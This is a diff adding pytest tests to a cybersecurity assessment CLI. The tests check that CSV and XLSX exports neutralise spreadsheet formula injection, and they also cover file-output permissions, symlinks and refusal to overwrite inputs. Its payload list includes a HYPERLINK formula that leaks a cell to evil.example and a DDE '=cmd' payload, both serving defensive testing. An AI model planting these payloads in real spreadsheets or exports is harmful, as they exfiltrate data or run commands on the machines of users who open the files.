@@ -263,3 +263,121 @@ def test_xlsx_formula_without_a_saved_value(mini):
     wb.save(path)
     r, text = run(["assess", "answers.xlsx", "--framework", "framework.yaml", "--ruleset", "ruleset.yaml"], mini)
     assert r.exit_code == 2 and f"sheet 'mof' cell G{row}" in text and "formula" in text
+
+
+# --------------------------------------------------------------------------- spreadsheet formula injection
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\tx=1", "\rx=1"]
+
+
+def _csv_cells(text: str) -> list[str]:
+    import csv
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def _hostile_answers(folder: Path) -> None:
+    import json
+    entities = [{"id": f"e{i}", "name": p, "sector": p} for i, p in enumerate(PAYLOADS)]
+    entities.append({"id": "=HYPERLINK(\"http://evil\")", "name": "ok"})
+    (folder / "answers.json").write_text(json.dumps({"framework": "framework.yaml", "ruleset": "ruleset.yaml",
+                                                     "entities": entities}))
+
+
+def _formula_start(s: str) -> bool:
+    return s.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_csv_exports_neutralise_formulas(mini):
+    _hostile_answers(mini)
+    r, _ = run(["assess", "answers.json", "--format", "csv"], mini, output=False)
+    assert r.exit_code == 0, r.stderr
+    cells = _csv_cells(r.stdout)
+    for p in PAYLOADS:
+        assert "'" + p.replace("\r", "\n") in cells, p   # written, with the apostrophe that makes it text
+    assert not any(_formula_start(c) for c in cells), [c for c in cells if _formula_start(c)]
+
+
+def test_questionnaire_csv_neutralises_and_reads_back(mini):
+    ids = ["=cmd|' /C calc'!A0", "-neg", "@at", "plain"]
+    r, _ = run(["questionnaire", "framework.yaml", "--format", "csv", "--entities", ",".join(ids), "-o", "q.csv"],
+               mini, output=False)
+    assert r.exit_code == 0, r.stderr
+    text = (mini / "q.csv").read_text()
+    assert not any(_formula_start(c) for c in _csv_cells(text))
+    # filled in and read back, the ids are the ones asked for
+    import csv
+    rows = list(csv.reader(io.StringIO(text)))
+    body = [row for row in rows[1:] if row[1] == "PR-2.q1"]
+    for row in body:
+        row[2] = "true"
+    filled = io.StringIO()
+    csv.writer(filled, lineterminator="\n").writerows([rows[0]] + body)
+    (mini / "filled.csv").write_text(filled.getvalue())
+    r, _ = run(["assess", "filled.csv", "--framework", "framework.yaml", "--ruleset", "ruleset.yaml", "--format",
+                "json"], mini, output=False)
+    assert r.exit_code == 0, r.stderr
+    import json
+    assert [e["id"] for e in json.loads(r.stdout)["entities"]] == ids
+
+
+def test_xlsx_exports_hold_no_formula(mini):
+    import openpyxl
+    _hostile_answers(mini)
+    r, _ = run(["assess", "answers.json", "--format", "xlsx", "-o", "t.xlsx"], mini, output=False)
+    assert r.exit_code == 0, r.stderr
+    ids = ["=cmd|' /C calc'!A0", "+plus"]
+    r, _ = run(["questionnaire", "framework.yaml", "--format", "xlsx", "--entities", ",".join(ids), "-o", "q.xlsx"],
+               mini, output=False)
+    assert r.exit_code == 0, r.stderr
+    seen = set()
+    for name in ("t.xlsx", "q.xlsx"):
+        wb = openpyxl.load_workbook(mini / name)
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str) and _formula_start(cell.value):
+                        assert cell.quotePrefix, (name, ws.title, cell.coordinate)
+                        seen.add(cell.value)
+        # and no formula element anywhere in the sheets' XML
+        with zipfile.ZipFile(mini / name) as z:
+            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if "worksheets" in n)
+    # (XML reads a carriage return back as a newline: that payload no longer starts like a formula)
+    assert {p for p in PAYLOADS if not p.startswith("\r")} <= seen and set(ids) <= seen
+    # the questionnaire reads back with the ids it was written for
+    from cyberplan.engine.inputs.workbook import read_answers_workbook
+    doc = read_answers_workbook(mini / "q.xlsx")
+    assert [e["id"] for e in doc.data["entities"]] == ids
+
+
+# --------------------------------------------------------------------------- outputs people can share
+
+def test_output_respects_the_umask(mini):
+    old = os.umask(0o022)
+    try:
+        r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "new.json"], mini, output=False)
+    finally:
+        os.umask(old)
+    assert r.exit_code == 0 and (mini / "new.json").stat().st_mode & 0o777 == 0o644
+    (mini / "shared.json").write_text("x")
+    (mini / "shared.json").chmod(0o664)
+    r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "shared.json"], mini, output=False)
+    assert (mini / "shared.json").stat().st_mode & 0o777 == 0o664   # a replaced file keeps its mode
+
+
+def test_output_through_a_symlink_writes_its_target(mini):
+    (mini / "real.json").write_text(OLD)
+    (mini / "link.json").symlink_to("real.json")
+    r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "link.json"], mini, output=False)
+    assert r.exit_code == 0, r.stderr
+    assert (mini / "link.json").is_symlink() and (mini / "real.json").read_text().startswith("{")
+
+
+@pytest.mark.parametrize("target", ["answers.yaml", "framework.yaml", "ruleset.yaml", "alias.yaml"])
+def test_output_onto_an_input_is_refused(mini, target):
+    (mini / "alias.yaml").symlink_to("answers.yaml")
+    before = {p.name: p.read_bytes() for p in mini.iterdir() if p.is_file()}
+    r, text = run(["assess", "answers.yaml", "--format", "json", "-o", target], mini, output=False)
+    assert r.exit_code == 2 and target in text and "input files" in text
+    assert {p.name: p.read_bytes() for p in mini.iterdir() if p.is_file()} == before
